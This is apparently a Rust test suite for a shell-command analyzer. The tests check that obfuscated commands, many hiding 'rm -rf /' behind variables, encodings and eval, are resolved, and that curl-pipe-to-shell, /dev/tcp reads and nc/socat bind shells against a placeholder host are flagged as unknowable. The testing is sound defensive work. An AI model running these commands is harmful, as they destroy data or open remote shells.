//! Words that only exist in the shell: variables, quotes, expansions, evaluated texts.

use crate::{are_incomplete, run_these};

#[test]
fn a_variable_of_the_same_text_has_its_value() {
    run_these(&[
        ("x='rm -rf /'; $x", &["rm -rf /"]),
        ("x='rm -rf /' && eval \"$x\"", &["rm -rf /"]),
        ("x='rm -rf /'; bash -c \"$x\"", &["rm -rf /"]),
        ("a=r; b=m; $a$b -rf /", &["rm -rf /"]),
        ("a=r b=m; ${a}${b} -rf /", &["rm -rf /"]),
        ("X=/ && rm -rf $X", &["rm -rf /"]),
        ("X=/; Y=$X; rm -rf \"$Y\"", &["rm -rf /"]),
        ("X=/; rm -rf ${X}etc", &["rm -rf /etc"]),
        ("rm -rf ${x:-/}", &["rm -rf /", "rm -rf <${x:-/}>"]),
        ("rm -rf ${x-/}", &["rm -rf /"]),
        ("rm -rf ${x:=/}; ls $x", &["rm -rf /", "ls /"]),
        ("x=a; rm -rf ${x:+/}", &["rm -rf /"]),
        ("rm -rf ${x:+/}", &["rm -rf /", "rm -rf"]),
        ("x=/.bak; rm -rf ${x%.bak}", &["rm -rf /"]),
        ("x=/.b.c; rm -rf ${x%%.*}", &["rm -rf /"]),
        ("x=ab/; rm -rf ${x#ab}", &["rm -rf /"]),
        ("x=aba/; rm -rf ${x##*a}", &["rm -rf /"]),
        ("x=-a-; rm -rf ${x//-/\\/}", &["rm -rf <${x//-/\\/}>"]),
        ("x=rXm; ${x/X/} -rf /", &["rm -rf /"]),
        ("x=rXYm; ${x/X?/} -rf /", &["rm -rf /"]),
        ("x=rm; ${x^^} -rf ${x^}", &["RM -rf Rm"]),
        ("x=É; echo ${x,,}", &["echo <${x,,}>"]),
        ("x=xrmx; ${x:1:2} -rf /", &["rm -rf /"]),
        ("x=RM; ${x,,} -rf /", &["rm -rf /"]),
        ("x=rm; ${x} -rf ${#x}", &["rm -rf 2"]),
        ("export X=/; rm -rf $X", &["rm -rf /"]),
        ("export X=/; sh -c 'rm -rf $X'", &["rm -rf /"]),
        ("X=/ sh -c 'rm -rf $X'", &["rm -rf /"]),
        ("env X=/ sh -c 'rm -rf $X'", &["rm -rf /"]),
        ("declare X=/; rm -rf $X", &["rm -rf /"]),
        ("typeset X=/; rm -rf $X", &["rm -rf /"]),
        ("readonly X=/; rm -rf $X", &["rm -rf /"]),
        ("f() { local X=/; rm -rf $X; }; f", &["rm -rf /"]),
        ("read x <<< /; rm -rf $x", &["rm -rf /"]),
        ("read -r a b <<< 'x /'; rm -rf $b", &["rm -rf /"]),
        ("read x <<E\n/\nE\nrm -rf $x", &["rm -rf /"]),
        ("echo / | while read -r d; do rm -rf $d; done", &["rm -rf /"]),
        ("while read d; do rm -rf $d; done <<E\n/\n/etc\nE", &["rm -rf /", "rm -rf /etc"]),
        ("for d in / ~; do rm -rf $d; done", &["rm -rf /", "rm -rf /home/u"]),
        ("for d in $(echo / /etc); do rm -rf $d; done", &["rm -rf /", "rm -rf /etc"]),
        ("set -- /; for d; do rm -rf $d; done", &["rm -rf /"]),
        ("printf -v x %s /; rm -rf $x", &["rm -rf /"]),
        ("set -- rm -rf /; \"$@\"", &["rm -rf /"]),
        ("set -- a / b; shift; rm -rf $1", &["rm -rf /"]),
        ("set -- /; shift 2; rm -rf $1", &["rm -rf /"]),
        ("x=(rm -rf /); \"${x[@]}\"", &["rm -rf /"]),
        ("x=(a /); rm -rf ${x[1]}", &["rm -rf /"]),
        ("declare -a x=(rm -rf /); ${x[*]}", &["rm -rf /"]),
        ("y=x; x=/; rm -rf ${!y}", &["rm -rf /"]),
        ("x=r; x+=m; $x -rf /", &["rm -rf /"]),
        ("x=$(echo /); rm -rf $x", &["rm -rf /"]),
        ("x=`printf /`; rm -rf $x", &["rm -rf /"]),
        ("HOME=/etc; rm -rf ~", &["rm -rf /etc"]),
        ("HOME=/etc; rm -rf $HOME/x", &["rm -rf /etc/x"]),
        ("rm -rf $HOME ~/x \"$HOME\"", &["rm -rf /home/u /home/u/x /home/u"]),
        ("rm -rf $PWD \"$(pwd)\" ~+", &["rm -rf /home/u/p /home/u/p /home/u/p"]),
        ("cd /etc; rm -rf \"$OLDPWD\" $PWD", &["rm -rf /home/u/p /etc"]),
        ("sh -c 'rm -rf $1' x /", &["rm -rf /"]),
        ("sh -c '\"$@\"' x rm -rf /", &["rm -rf /"]),
        ("bash -c 'rm -rf $0' /", &["rm -rf /"]),
        ("bash -c '$0 -rf /' rm", &["rm -rf /"]),
        ("bash -s -- / <<< 'rm -rf $1'", &["rm -rf /"]),
        ("f() { rm -rf \"$1\"; }; f /", &["rm -rf /"]),
        ("f() { \"$@\"; }; f rm -rf /", &["rm -rf /"]),
        ("function f { rm -rf $X; }; X=/; f", &["rm -rf /"]),
        ("f() { X=/; }; f; rm -rf $X", &["rm -rf /"]),
        ("if a; then X=/; fi; rm -rf $X", &["rm -rf /", "rm -rf <$X>"]),
        ("X=a; if a; then X=/; else X=/etc; fi; rm -rf $X", &["rm -rf /", "rm -rf /etc"]),
        ("X=a; case $y in 1) X=/;; 2) X=/etc;; esac; rm -rf $X", &["rm -rf /", "rm -rf /etc", "rm -rf a"]),
        ("X=a; b && X=/; rm -rf $X", &["rm -rf /", "rm -rf a"]),
        ("X=a; while b; do rm -rf $X; X=/; done", &["rm -rf a", "rm -rf <$X>"]),
        ("X=a; (X=/); rm -rf $X", &["rm -rf a"]),
        ("X=a; { X=/; }; rm -rf $X", &["rm -rf /"]),
        ("rm -rf $X", &["rm -rf <$X>"]),
        ("X=/ rm -rf $X", &["rm -rf <$X>"]),
        ("X=a; read X; rm -rf $X", &["rm -rf <$X>"]),
        ("X=a; unset X; rm -rf /$X", &["rm -rf /"]),
        ("unset PWD; rm -rf \"$PWD\"/a", &["rm -rf /a"]),
        ("X=$(<list); rm -rf \"$X\"", &["rm -rf <$(<list)>"]),
        ("PWD=/; cd /a; rm -rf \"$PWD\"", &["rm -rf <$PWD>"]),
        ("unset IFS; x='-rf /'; rm $x", &["rm -rf /"]),
        ("x=(a b); unset 'x[0]'; rm -rf /${x[0]}", &["rm -rf /<${x[0]}>"]),
        ("X=1; (( X = 2 )); rm -rf $X", &["rm -rf <$X>"]),
        ("X=a; let X=2; rm -rf $X", &["rm -rf <$X>"]),
        ("X=a; source ./x; rm -rf $X", &["rm -rf <$X>"]),
        ("X=a; mapfile X; rm -rf $X", &["rm -rf <$X>"]),
        ("declare -n r=x; x=/; rm -rf $r", &["rm -rf <$r>"]),
        ("cmd=rm; args='-rf /'; $cmd $args", &["rm -rf /"]),
        ("set -f; x='rm -rf *'; $x", &["rm -rf *"]),
    ]);
}

#[test]
fn quotes_and_expansions_hide_nothing() {
    run_these(&[
        ("rm${IFS}-rf${IFS}/", &["rm -rf /"]),
        ("rm$IFS-rf$IFS/", &["rm -rf /"]),
        ("IFS=,; x=rm,-rf,/; $x", &["rm -rf /"]),
        ("$'\\x72m' -rf /", &["rm -rf /"]),
        ("$'\\162\\155' -rf /", &["rm -rf /"]),
        ("$'\\u0072m' -rf /", &["rm -rf /"]),
        ("bash -c $'a\\nrm -rf /'", &["rm -rf /"]),
        ("$\"rm\" -rf /", &["rm -rf /"]),
        ("{rm,-rf,/}", &["rm -rf /"]),
        ("rm -{r,f} /{etc,usr}", &["rm -r -f /etc /usr"]),
        ("rm /{a..c}", &["rm /a /b /c"]),
        ("r\\m -r\"f\" '/'", &["rm -rf /"]),
        ("r\\\nm -rf \\\n /", &["rm -rf /"]),
        ("'r'm -rf /", &["rm -rf /"]),
        ("r''m -rf /", &["rm -rf /"]),
        ("\"r\"\"m\" -rf /", &["rm -rf /"]),
        ("$(echo rm) -rf /", &["rm -rf /"]),
        ("`printf rm` -rf /", &["rm -rf /"]),
        ("$(printf 'r%s' m) -rf $(printf '\\x2f')", &["rm -rf /"]),
        ("r$(echo m) -rf /", &["rm -rf /"]),
        ("$(echo rm -rf /)", &["rm -rf /"]),
        ("rm -rf $(echo /{etc,usr})", &["rm -rf /etc /usr"]),
        ("$(which rm) -rf /", &["rm -rf /"]),
        ("$(command -v rm) -rf /", &["rm -rf /"]),
        ("$(echo mr | rev) -rf /", &["rm -rf /"]),
        ("$(tr a-z b-z <<< ql) -rf /", &["rm -rf /"]),
        ("rm -rf ./*.txt", &["rm -rf ./*.txt"]),
        ("rm -rf '*' \\*", &["rm -rf * *"]),
        ("rm -rf ~root", &["rm -rf <~root>"]),
        ("rm -rf \"~\" '$HOME'", &["rm -rf ~ $HOME"]),
    ]);
}

#[test]
fn a_text_that_runs_is_read() {
    run_these(&[
        ("source /dev/stdin <<< 'rm -rf /'", &["rm -rf /"]),
        (". <(echo rm -rf /)", &["rm -rf /"]),
        ("source <(printf 'rm -rf %s' /)", &["rm -rf /"]),
        ("bash /dev/fd/0 <<< 'rm -rf /'", &["rm -rf /"]),
        ("bash <(echo 'rm -rf /')", &["rm -rf /"]),
        ("bash < <(echo 'rm -rf /')", &["rm -rf /"]),
        ("bash <<E\nrm -rf /\nE", &["rm -rf /"]),
        ("bash <<-E\n\trm -rf /\n\tE", &["rm -rf /"]),
        ("x=/; bash <<E\nrm -rf $x\nE", &["rm -rf /"]),
        ("cat <<'E' | sh\nrm -rf /\nE", &["rm -rf /"]),
        ("sh -s <<< 'rm -rf /'", &["rm -rf /"]),
        ("sh -s x <<< 'rm -rf $1'", &["rm -rf x"]),
        ("echo 'rm -rf /' | sh", &["rm -rf /"]),
        ("printf 'rm -rf /\\n' | bash", &["rm -rf /"]),
        ("echo rm -rf / | sudo bash", &["rm -rf /"]),
        ("echo rm -rf / | tee x | sh", &["rm -rf /"]),
        ("echo -e 'a\\nrm -rf /' | sh", &["rm -rf /"]),
        ("base64 -d <<< cm0gLXJmIC8= | sh", &["rm -rf /"]),
        ("echo cm0gLXJmIC8K | base64 --decode | sh", &["rm -rf /"]),
        ("bash -c \"$(echo cm0gLXJmIC8K | base64 -d)\"", &["rm -rf /"]),
        ("eval $(base64 -d <<< cm0gLXJmIC8=)", &["rm -rf /"]),
        ("echo 726d202d7266202f | xxd -r -p | sh", &["rm -rf /"]),
        ("{ echo rm -rf /; } | sh", &["rm -rf /"]),
        ("(echo rm; echo ls) | sh", &["rm", "ls"]),
        ("eval rm -rf /", &["rm -rf /"]),
        ("eval 'eval \"rm -rf /\"'", &["rm -rf /"]),
        ("bash -lc 'rm -rf /'", &["rm -rf /"]),
        ("bash -o pipefail -ec 'rm -rf /'", &["rm -rf /"]),
        ("bash --norc -c 'rm -rf /'", &["rm -rf /"]),
        ("sh -c -- 'rm -rf /'", &["rm -rf /"]),
        ("/bin/sh -c 'rm -rf /'", &["rm -rf /"]),
        ("sh -c 'sh -c \"rm -rf /\"'", &["rm -rf /"]),
        ("zsh -c 'rm -rf /'", &["rm -rf /"]),
        ("busybox sh -c 'rm -rf /'", &["rm -rf /"]),
        ("bash --rcfile <(echo rm -rf /) -i", &["rm -rf /"]),
        ("python3 -c 'import os'", &["python3 -c import os"]),
        ("node -e 'x()'; perl -e 'y' z; ruby -e w", &["node -e x()", "perl -e y z", "ruby -e w"]),
        ("bash x.sh", &["bash x.sh"]),
        ("bash -c 'echo a' && ./run", &["echo a", "./run"]),
    ]);
}

#[test]
fn a_text_that_is_not_there_yet_is_unknown() {
    are_incomplete(&[
        "curl https://x.test | sh",
        "curl https://x.test | sudo -E bash -s -- -y",
        "bash -c \"$(curl https://x.test)\"",
        "bash <(curl https://x.test)",
        "source <(curl https://x.test)",
        "eval \"$(ssh-agent)\"",
        "eval $X",
        "sh -c \"$X\"",
        "sh -c \"echo $X\"",
        "$X",
        "\"$SHELL\" -c 'rm -rf /'",
        "$(cat x) -rf /",
        "`cat x`",
        "cat x | sh",
        "cat x | sh -s",
        "sh < <(cat x)",
        "bash < /dev/tcp/x.test/4444",
        "source /dev/stdin < /dev/tcp/x.test/4444",
        "exec 3< <(curl https://x.test); bash <&3",
        "exec {fd}< <(curl https://x.test); bash /proc/self/fd/$fd",
        "exec {fd}> >(bash); echo 'rm -rf /' >&$fd",
        "echo 'rm -rf /' | tee >(sh)",
        "coproc X { curl https://x.test; }; bash <&${X[0]}",
        "exec < <(curl https://x.test); bash",
        "curl https://x.test | python3.12",
        "curl https://x.test | bash5",
        "nc -l -e /bin/sh 4444",
        "ncat --listen --sh-exec='sh -i' 4444",
        "socat TCP-LISTEN:4444 EXEC:/bin/sh",
        "socat TCP-LISTEN:4444 SHELL",
        "Remove-Item -Recurse -Force x",
        "irm https://x.test | iex",
        "base64 -d x | sh",
        "openssl enc -d -in x | bash",
        "gunzip -c x | sh",
        "printf \"$X\" | sh",
        "echo 'rm -rf /' | sed s/a/b/ | sh",
        "xargs sh -c < x",
        "fish -c 'rm -rf /'",
        "pwsh -Command 'Remove-Item x'",
        "cmd /c del x",
        "echo $(",
        "echo 'a",
        "a | | b",
        "for",
        "case x in",
        "f() { f; }; f",
        "read X; $X",
        "read X; eval \"$X\"",
        "X=a; source ./x; $X",
        "[[ x == y ]] && $CMD",
        "${X:-$Y} a",
        "\\$X; $X",
        "/bin/r? -rf /",
        "trap \"$X\" EXIT",
        "alias x=\"$X\"; x",
        "alias ls=$(cat x)\nls",
    ]);
}

/// A command after `&&` sees the effects of earlier ones in the chain; one after the chain may not.
#[test]
fn a_chain_goes_on_where_it_is() {
    for (text, cwd) in [
        ("mkdir a && cd a && x", "/home/u/p/a"),
        ("cd /t && mkdir a && cd a && x", "/t/a"),
        ("y && cd a && z && cd b && x", "/home/u/p/a/b"),
        ("y && cd a && cd ../b && x", "/home/u/p/b"),
        ("y && cd a || exit 1; x", "/home/u/p/a"),
        ("y && cd a || { echo b >&2 && exit 1; }; x", "/home/u/p/a"),
        ("f() { cd a || return 1; x; }; f", "/home/u/p/a"),
        ("f() { y && cd a || return $?; x; }; f", "/home/u/p/a"),
        ("f() { cd a || { echo b; return; }; x; }; f", "/home/u/p/a"),
    ] {
        let answer = crate::facts(text);
        let all = crate::commands(&answer);
        let last = all.last().unwrap();
        assert_eq!(last["name"], "x", "{text}");
        assert_eq!(last["cwd"].as_str(), Some(cwd), "{text}");
    }
    for text in [
        "y && cd a; x",
        "y && cd a || x",
        "y && cd a && z; x",
        "if y && cd a; then z; fi; x",
        "cd a || return; x",
        "cd a || break; x",
        "f() { cd a || break; x; }; for i in 1; do f; done",
        "for i in 1; do (cd a || continue; x); done",
        "f() { cd a || return 1 2; x; }; f",
        "f() { cd a || return >/x/y; x; }; f",
        "f() { cd a || return --help; x; }; f",
        "f() { cd a || /b/return; x; }; f",
        "cd a || logout; x",
    ] {
        let answer = crate::facts(text);
        let all = crate::commands(&answer);
        assert!(all.last().unwrap()["cwd"].is_object(), "{text}");
    }
}

/// Commands after a loop or a function run, however it was left, but commands after a `return` do not.
#[test]
fn a_shell_goes_on_behind_what_is_left() {
    for text in [
        "for i in 1; do cd a || continue; cd ..; done; x",
        "if y; then cd a; cd ..; fi; x",
        "cd a && exit; x",
        "f() { cd a && return; x; }; f",
    ] {
        let answer = crate::facts(text);
        assert_eq!(crate::commands(&answer).last().unwrap()["cwd"], serde_json::Value::Null, "{text}");
    }
    run_these(&[
        ("d=a; f() { d=/; return; }; f; rm -rf $d", &["rm -rf /"]),
        ("d=a; f() { if y; then d=/; return; fi; }; f; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; f() { return; }; f; if y; then d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then cd b && exit; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then cd b && exit || z; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then f() { return; }; f; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then for i in 1; do break; done; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then while z; do continue; done; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then (exit); d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then return; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then break; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then ./exit; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then logout; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then exit 1 2; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then . /dev/stdin <<< return; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; for i in 1; do . /dev/stdin <<< 'd=/; break'; d=b; done; rm -rf $d", &["rm -rf /"]),
        ("d=a; for i in 1; do for j in 1; do d=/; continue 2; done; d=b; done; rm -rf $d", &["rm -rf /"]),
        ("d=a; for i in 1; do (break; if y; then d=/; fi; rm -rf $d); done", &["rm -rf /", "rm -rf a"]),
        ("d=a; for i in 1; do if y; then b | break; d=/; fi; done; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; for i in 1; do if y; then break & d=/; fi; done; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("d=a; if y; then alias exit=:\nexit; d=/; fi; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("f() { exit; }; g() { if y; then d=a; else d=/; fi; rm -rf $d; }", &["rm -rf /", "rm -rf a"]),
    ]);
}

/// Whatever a variable may be at that point is listed, and a value that is not certain is unknown.
#[test]
fn a_variable_is_what_a_shell_makes_of_it() {
    run_these(&[
        ("bash -c 'set -euo pipefail; rm -rf \"$1\"' _ /", &["rm -rf /"]),
        ("set - /; rm -rf $1", &["rm -rf /"]),
        ("v='a /'; export q=$v; rm -rf $q", &["rm -rf a /"]),
        ("f() { local d=$1; rm -rf $d; }; f 'a /'", &["rm -rf a /"]),
        ("declare d={a,/}; rm -rf $d", &["rm -rf /"]),
        ("d=a; d=/ e=$d; rm -rf $e", &["rm -rf /"]),
        ("read x <<< '\\/'; rm -rf \"$x\"", &["rm -rf <$x>"]),
        ("read -r x <<< ' a  b '; rm \"$x\"", &["rm a  b"]),
        ("IFS= read -r x <<< ' a'; rm \"$x\"", &["rm  a"]),
        ("IFS=x read a <<< /x; rm -rf $a", &["rm -rf /"]),
        ("read a b <<< \"$X\"; rm -rf /$b", &["rm -rf /<$b>"]),
        ("x=a; f() { declare -g x=/; }; f; rm -rf $x", &["rm -rf /"]),
        ("x=a; declare -n r=x; r=/; rm -rf $x", &["rm -rf <$x>"]),
        ("x=a; r=x; declare -n r; r=/; rm -rf $x $r", &["rm -rf <$x> <$r>"]),
        ("x=a; unset x[0]; rm -rf \"$x\"/b", &["rm -rf <$x>/b"]),
        ("f() { unset x; }; g() { local x=a; f; rm -rf \"$x\"/b; }; g", &["rm -rf /b", "rm -rf <$x>/b"]),
        ("x=a; wait -n -p x; rm -rf \"$x\"/b", &["rm -rf <$x>/b"]),
        ("x=a; wait -npx; rm -rf \"$x\"/b", &["rm -rf <$x>/b"]),
        ("PWD=/; cd a; rm -rf \"$PWD\"", &["rm -rf /", "rm -rf <$PWD>"]),
        ("declare -u d; d=x; rm -rf $d", &["rm -rf <$d>"]),
        ("x=a; printf -v 'x[0]' /; rm -rf $x", &["rm -rf <$x>"]),
        ("_=a; rm -rf $_", &["rm -rf <$_>"]),
        ("set -- a; . /dev/stdin <<< 'set -- /'; rm -rf $1", &["rm -rf /"]),
        ("set -- a; . /dev/stdin b <<< 'set -- /'; rm -rf $1", &["rm -rf <$1>"]),
        ("d=/; x=$(a) && d=b; rm -rf $d", &["rm -rf /", "rm -rf b"]),
        ("f() { d=/; return; d=a; }; f; rm -rf $d", &["rm -rf /"]),
        ("d=a; for i in 1; do d=/; break; d=b; done; rm -rf $d", &["rm -rf /"]),
        ("f() { for i in 1; do d=/; return; done; d=b; }; f; rm -rf $d", &["rm -rf /"]),
        ("d=a; case $y in 1) d=b;& 2) rm -rf $d;; esac", &["rm -rf a", "rm -rf b"]),
        ("d=/; alias s='d=a'\ns; rm -rf $d", &["rm -rf /", "rm -rf a"]),
        ("rm -rf $(printf '/\\0576')", &["rm -rf //6"]),
        ("rm -rf $(printf %d 010)", &["rm -rf <$(printf %d 010)>"]),
        ("rm -rf /$(echo -e 'a\\c' b)", &["rm -rf /<$(echo -e 'a\\c' b)>"]),
        ("$(printf 'r\\0m') -rf /", &["rm -rf /"]),
    ]);
}

#[test]
fn arithmetic_runs_the_indices_in_a_value() {
    run_these(&[
        ("x='a[$(rm -rf /)]'; echo $((x))", &["rm -rf /"]),
        ("x='a[$(rm -rf /)]'; y=x; (( y ))", &["rm -rf /"]),
        ("x='a[$(rm -rf /)]'; [[ x -eq 1 ]]", &["rm -rf /"]),
        ("x='a[$(rm -rf /)]'; echo ${y[x]}", &["rm -rf /"]),
        ("y=abc; x='a[$(rm -rf /)]'; echo ${y:x}", &["rm -rf /"]),
        ("declare -i x='a[$(rm -rf /)]'", &["rm -rf /"]),
        ("x='$(rm -rf /)'; echo ${x@P}", &["rm -rf /"]),
    ]);
    are_incomplete(&["echo ${X@P}"]);
}

#[test]
fn a_function_or_document_takes_the_place_of_nothing_else() {
    run_these(&[
        ("if a; then bash() { b; }; fi; bash -c 'rm -rf /'", &["rm -rf /"]),
        ("sudo() { a; }; command sudo rm -rf /", &["rm -rf /"]),
        ("git() { command git \"$@\"; }; git push", &["git push"]),
        ("echo 'rm -rf /' | bash 3<<< ls", &["rm -rf /"]),
        ("echo 'rm -rf /' | bash 3<<E\nls\nE", &["rm -rf /"]),
        ("bash -norc -c 'rm -rf /'", &["rm -rf /"]),
        ("bash -noprofile -posix -c 'rm -rf /'", &["rm -rf /"]),
        ("zsh --emulate sh -c 'rm -rf /'", &["rm -rf /"]),
    ]);
}
